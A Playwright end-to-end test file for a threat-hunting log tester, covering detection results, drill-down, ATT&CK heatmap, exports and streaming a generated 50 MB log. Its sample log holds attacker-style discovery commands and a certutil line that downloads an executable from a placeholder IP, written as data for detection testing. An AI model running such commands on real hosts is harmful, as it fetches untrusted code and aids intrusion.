import { createWriteStream, mkdtempSync, readFileSync, rmSync, statSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"

import { processLogLines } from "../scripts/hunt/generate"
import { expect, expectAccessible, test } from "./fixtures"

/** Five discovery tools in five minutes by one user on one host, and a certutil download. */
const SMALL = [
  "whoami.exe /all",
  'net.exe group "Domain Admins" /domain',
  "ipconfig.exe /all",
  "systeminfo.exe",
  "tasklist.exe /v",
  "certutil.exe -urlcache -split -f http://198.51.100.7/p.exe p.exe",
]
  .map((cmd, i) =>
    JSON.stringify({
      time: `2026-01-05T08:0${i}:00Z`,
      cmd,
      user: "CORP\\bob",
      host: "ws-007",
      parent: "C:\\Windows\\System32\\cmd.exe",
    }),
  )
  .join("\n")

test.describe("tester: hunt a log file", () => {
  test("a small log: the results table, drill-down with a trace, heatmap and exports", async ({ page, problems }) => {
    await page.goto("/tester/")
    await page
      .getByLabel("Log file to hunt")
      .setInputFiles({ name: "small.jsonl", mimeType: "application/json", buffer: Buffer.from(SMALL) })
    const table = page.getByTestId("hunt-table")
    await expect(table).toBeVisible({ timeout: 20_000 })
    await expect(page.getByTestId("hunt-results").getByRole("status")).toContainText("small.jsonl: 6 events")
    // The multi-event rule: five distinct tools within ten minutes on one host.
    const burst = table.getByRole("row").filter({ hasText: "Discovery Utility Burst On Single Host" })
    await expect(burst).toHaveCount(1)
    await expect(burst).toContainText("over the log")
    await expect(burst.getByRole("cell").nth(1)).toHaveText("1")
    await expect(burst.getByRole("cell").nth(2)).toHaveText("2026-01-05 08:00:00Z")
    await expect(burst.getByRole("cell").nth(3)).toHaveText("2026-01-05 08:04:00Z")
    await expect(burst).toContainText("dest=ws-007")
    await expect(burst.getByRole("link")).toHaveAttribute(
      "href",
      "/rules/splunk/discovery-utility-burst-on-single-host/",
    )
    await expect(table.getByRole("row").filter({ hasText: "Certutil URL Cache Download" })).toHaveCount(1)
    // Drill-down: the result row's figures, the five events, and why one was taken.
    await burst.getByRole("button", { name: /Show 5/ }).click()
    const drill = page.getByTestId("hunt-drilldown")
    await expect(drill).toContainText("tool_count")
    await expect(drill.getByText(/^Event \d+ \(line \d+\)$/)).toHaveCount(5)
    await drill.getByRole("button", { name: "Why it matched" }).first().click()
    await expect(drill.getByText(/process_name IN/).first()).toBeVisible()
    await expect(drill.getByText("held on", { exact: false }).first()).toBeVisible()
    await expect(page.getByTestId("hunt-heatmap")).toContainText("T1082")
    await expectAccessible(page)
    // Exports: CSV with one line per rule with hits, JSON with events and rules at the top.
    const [csv] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Export CSV" }).click(),
    ])
    expect(csv.suggestedFilename()).toBe("hunt-small.csv")
    const csvText = readFileSync((await csv.path())!, "utf8")
    expect(csvText.split("\r\n")[0]).toBe("id,name,format,mode,hits,events,first,last,entities,techniques")
    expect(csvText).toContain("Discovery Utility Burst On Single Host,splunk,log,1,5,2026-01-05T08:00:00.000Z")
    const [json] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Export JSON" }).click(),
    ])
    const data = JSON.parse(readFileSync((await json.path())!, "utf8")) as {
      events: number
      rules: Array<{ name: string; events: number[] }>
    }
    expect(Object.keys(data)).toEqual(["events", "rules"])
    expect(data.events).toBe(6)
    expect(data.rules.find((r) => r.name === "Discovery Utility Burst On Single Host")?.events).toEqual([0, 1, 2, 3, 4])
    const [layer] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Export Navigator layer" }).click(),
    ])
    const l = JSON.parse(readFileSync((await layer.path())!, "utf8")) as { techniques: Array<{ techniqueID: string }> }
    expect(l.techniques.map((t) => t.techniqueID)).toContain("T1082")
    expect(problems).toEqual([])
  })

  test.describe("a 50 MB log", () => {
    let dir: string
    let file: string
    test.beforeAll(async () => {
      // Generated here, never committed: ordinary process events, about 190 bytes a line.
      dir = mkdtempSync(join(tmpdir(), "atlas-e2e-hunt-"))
      file = join(dir, "big.jsonl")
      const out = createWriteStream(file)
      let buf: string[] = []
      for (const line of processLogLines({ events: 280_000, seed: 3 })) {
        buf.push(line)
        if (buf.length >= 5000) {
          if (!out.write(`${buf.join("\n")}\n`)) await new Promise<void>((r) => out.once("drain", () => r()))
          buf = []
        }
      }
      out.write(`${buf.join("\n")}\n`)
      await new Promise<void>((r) => out.end(() => r()))
      expect(statSync(file).size).toBeGreaterThan(50 * 1024 * 1024)
    })
    test.afterAll(() => rmSync(dir, { recursive: true, force: true }))

    test("streams with progress, the page stays responsive, cancel stops it", async ({ page, problems }) => {
      test.setTimeout(120_000)
      await page.goto("/tester/")
      await page.getByLabel("Log file to hunt").setInputFiles(file)
      const progress = page.getByTestId("hunt-progress")
      await expect(progress).toContainText(/[\d,]+ events, [\d,]+ events\/s/, { timeout: 30_000 })
      const events = async () =>
        Number(/([\d,]+) events,/.exec((await progress.textContent()) ?? "")?.[1]?.replace(/,/g, ""))
      const before = await events()
      // The main thread answers while the worker hunts: a timer fires on time, typed keys land at once.
      for (let i = 0; i < 5; i++) {
        const lag = await page.evaluate(
          () =>
            new Promise<number>((r) => {
              const t = performance.now()
              setTimeout(() => r(performance.now() - t), 0)
            }),
        )
        expect(lag).toBeLessThan(100)
      }
      // For a second of hunting, no task on the main thread blocks it: the hunt's progress costs the
      // page nothing. (Typing is left out of this window: each key runs the tester, whose answer is
      // the page's own work, not the hunt's, and its wall time counts the machine's other processes.)
      const longTasks = await page.evaluate(
        () =>
          new Promise<number[]>((done) => {
            const seen: number[] = []
            const observer = new PerformanceObserver((list) => {
              for (const e of list.getEntries()) seen.push(Math.round(e.duration))
            })
            observer.observe({ type: "longtask" })
            setTimeout(() => {
              observer.disconnect()
              done(seen)
            }, 1000)
          }),
      )
      expect(Math.max(0, ...longTasks), `main-thread tasks while hunting: ${longTasks.join(", ")} ms`).toBeLessThan(200)
      // Typed keys land while the worker hunts.
      const field = page.getByLabel("Command line", { exact: true })
      await field.pressSequentially("whoami", { delay: 10 })
      await expect(field).toHaveValue("whoami", { timeout: 1000 })
      await expect.poll(events, { timeout: 20_000 }).toBeGreaterThan(before)
      await expect(progress.getByRole("progressbar")).toHaveAttribute("value", /\d+/)
      // Cancel: the hunt stops, says how far it got, and shows no report.
      const cancelAt = Date.now()
      await page.getByRole("button", { name: "Cancel" }).click()
      await expect(page.getByText(/Hunt of big\.jsonl cancelled after [\d,]+ events\./)).toBeVisible({ timeout: 2000 })
      expect(Date.now() - cancelAt).toBeLessThan(2000)
      await expect(progress).toHaveCount(0)
      await expect(page.getByTestId("hunt-results")).toHaveCount(0)
      expect(problems).toEqual([])
    })
  })
})
